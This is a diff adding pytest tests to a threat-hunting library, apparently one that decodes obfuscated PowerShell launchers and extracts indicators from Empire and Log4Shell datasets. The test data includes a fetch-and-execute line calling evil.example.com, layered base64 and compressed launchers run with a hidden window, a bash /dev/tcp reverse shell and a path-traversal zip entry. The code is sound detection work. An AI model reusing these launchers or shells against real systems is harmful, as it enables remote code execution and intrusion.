@@ -2,16 +2,26 @@
 
 import base64
 import gzip
+import hashlib
+import io
 import json
+import tarfile
 import time
+import zipfile
+import zlib
+from collections.abc import Iterator
+from pathlib import Path
 
 import duckdb
 import pandas as pd
 import polars as pl
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from huntkit.core.errors import UnknownColumn, UsageError
-from huntkit.extract import decode
+from huntkit.extract import decode, iocs
+from huntkit.extract.decode_limits import DecodeLimits
 
 SCRIPT = "Invoke-WebRequest http://evil.example.com/a.ps1 | iex"
 
@@ -124,3 +134,132 @@ def test_plain_command_lines_give_no_false_layer(windows_events):
     assert found.filter(~announced)["Decoded"].to_list() == []
     assert found["Announced"].all()
     assert found["Note"].str.starts_with("binary").sum() == 0
+
+
+SETS = {
+    "atomic/windows/discovery/host/empire_shell_net_local_users.zip": "10.10.10.5",
+    "atomic/windows/defense_evasion/host/empire_wdigest_downgrade.tar.gz": "10.0.10.106",
+    "compound/Log4Shell/sysmon_log4shell_cve2021_44228_java_serialized_object.zip": "192.168.3.5",
+}
+
+
+def zip_lines(path: Path) -> Iterator[bytes]:
+    with zipfile.ZipFile(path) as archive:
+        for name in archive.namelist():
+            yield from archive.read(name).splitlines()
+
+
+def archived_lines(path: Path) -> list[bytes]:
+    if path.name.endswith(".zip"):
+        return list(zip_lines(path))
+    with tarfile.open(path) as archive:
+        files = [archive.extractfile(member) for member in archive if member.isfile()]
+        return [line for file in files if file for line in file.read().splitlines()]
+
+
+@pytest.mark.data
+@pytest.mark.parametrize(("name", "address"), SETS.items())
+def test_addresses_behind_encoded_launchers_are_among_the_indicators(shared_data, name, address):
+    lines = archived_lines(shared_data / "security-datasets" / name)
+    fields = [json.loads(line) for line in lines]
+    texts = {value for row in fields for value in row.values() if isinstance(value, str)}
+    launchers = sorted(text for text in texts if "powershell" in text.lower())
+    assert launchers
+    layers = decode(pl.DataFrame({"text": launchers}), "text")
+    assert layers["Announced"].all()
+    plain = layers.filter(pl.col("file_type") == "")
+    found = iocs(plain, "Decoded")
+    assert address in found["Observable"].to_list()
+    # It stands in no launcher in plain text: only decoding tells it.
+    holders = layers.filter(pl.col("Decoded").str.contains(address, literal=True))
+    assert holders.height > 0
+    assert not any(address in text for text in holders["Input"] if "-enc" in text[:400])
+
+
+@pytest.mark.data
+def test_the_reverse_shell_of_log4shell_is_told(shared_data):
+    name = "compound/Log4Shell/syslog_sysmon_log4shell_cve2021_44228_jndi_reference.zip"
+    lines = [line.decode() for line in zip_lines(shared_data / "security-datasets" / name)]
+    found = decode(pl.DataFrame({"line": lines}), "line")
+    shells = found.filter(pl.col("Decoded").str.starts_with("bash -i >& /dev/tcp/192.168.2.6/443"))
+    assert shells.height > 0
+    assert shells["Announced"].all()
+
+
+def test_compressed_launchers_come_out_readable():
+    packer = zlib.compressobj(wbits=-15)
+    deflated = b64(packer.compress(SCRIPT.encode()) + packer.flush())
+    gzipped = b64(gzip.compress(SCRIPT.encode()))
+    decoded = f"[Convert]::FromBase64String('{deflated}')"
+    stream = f"New-Object IO.Compression.DeflateStream([IO.MemoryStream]{decoded},$mode)"
+    unzip = "New-Object IO.Compression.GzipStream($s,$mode)"
+    launchers = [
+        f"IEX (New-Object IO.StreamReader(({stream}),[Text.Encoding]::ASCII)).ReadToEnd()",
+        f"$s=[Convert]::FromBase64String('{gzipped}');IEX (New-Object IO.StreamReader({unzip}))",
+        f"$d='{deflated}';$b=[Convert]::FromBase64String($d);iex (inflate $b)",
+    ]
+    for launcher in launchers:
+        found = decode(pl.DataFrame({"cmd": [launcher]}), "cmd")
+        assert found["Decoded"].to_list() == [SCRIPT]
+        wrapped = f"powershell -w hidden -enc {b64(launcher, 'utf-16-le')}"
+        found = decode(pl.DataFrame({"cmd": [wrapped]}), "cmd")
+        assert found["Decoded"].to_list() == [launcher, SCRIPT]
+        assert found.select("Layer", "ParentLayer", "Depth").rows() == [(1, 0, 1), (2, 1, 2)]
+
+
+def test_each_layer_has_its_hashes_and_the_steps_that_led_to_it():
+    packed = gzip.compress(SCRIPT.encode("utf-16-le"))
+    (row,) = decode(pl.DataFrame({"a": [b64(packed)]})).rows(named=True)
+    data = SCRIPT.encode("utf-16-le")
+    assert row["md5"] == hashlib.md5(data).hexdigest()
+    assert row["sha1"] == hashlib.sha1(data).hexdigest()
+    assert row["sha256"] == hashlib.sha256(data).hexdigest()
+    assert row["steps"] == [
+        {"encoding": "base64", "size": len(packed), "sha256": hashlib.sha256(packed).hexdigest()},
+        {"encoding": "gzip", "size": len(data), "sha256": hashlib.sha256(data).hexdigest()},
+    ]
+
+
+def test_files_of_an_archive_are_layers_below_it():
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        archive.writestr("../run.ps1", f"powershell -enc {b64(SCRIPT, 'utf-16-le')}")
+        archive.writestr("a.exe", b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run")
+    found = decode(pl.DataFrame({"a": [f"x {b64(out.getvalue())}"]}))
+    told = found.select("Layer", "ParentLayer", "Depth", "Encoding", "file_name", "file_type")
+    assert told.rows() == [
+        (1, 0, 1, "base64", "", "zip archive"),
+        (2, 1, 2, "zip > utf-8", "../run.ps1", ""),
+        (3, 1, 2, "zip", "a.exe", "Windows program"),
+        (4, 2, 3, "base64 > utf-16-le", "", ""),
+    ]
+    assert found["Decoded"][0] == "../run.ps1\na.exe"
+    assert found["Decoded"][3] == SCRIPT
+    assert found["start"].to_list()[1:3] == [None, None]
+
+
+def test_limits_are_refused_where_they_make_no_sense():
+    with pytest.raises(UsageError, match="depth"):
+        DecodeLimits(depth=0)
+
+
+MESSY = st.one_of(
+    st.none(), st.integers(), st.floats(), st.booleans(), st.binary(max_size=30),
+    st.text(max_size=60), st.lists(st.text(max_size=9), max_size=3),
+    st.dictionaries(st.text(max_size=3), st.text(max_size=9)),
+    st.text(alphabet="AaQkZg09+/=-_%'\"&#;x\\ue\n ", max_size=120),
+    st.binary(max_size=60).map(b64), st.binary(max_size=60).map(lambda data: "-enc " + b64(data)),
+    st.binary(max_size=60).map(lambda data: "FromBase64String('" + b64(gzip.compress(data)) + "')"),
+)  # fmt: skip
+
+
+@settings(max_examples=80)
+@given(st.lists(MESSY, max_size=8), st.booleans())
+def test_no_frame_makes_it_fail(values, xor):
+    frame = pd.DataFrame({"odd name": pd.Series(values, dtype=object), "index": range(len(values))})
+    found = decode(frame, "odd name", xor=xor, keep=["index"])
+    assert set(found["SourceIndex"]) <= set(range(len(values)))
+    assert (found["SourceIndex"] == found["index"]).all()
+    assert found["Depth"].between(1, 20).all()
+    again = decode(frame, "odd name", xor=xor, keep=["index"])
+    assert found.equals(again)
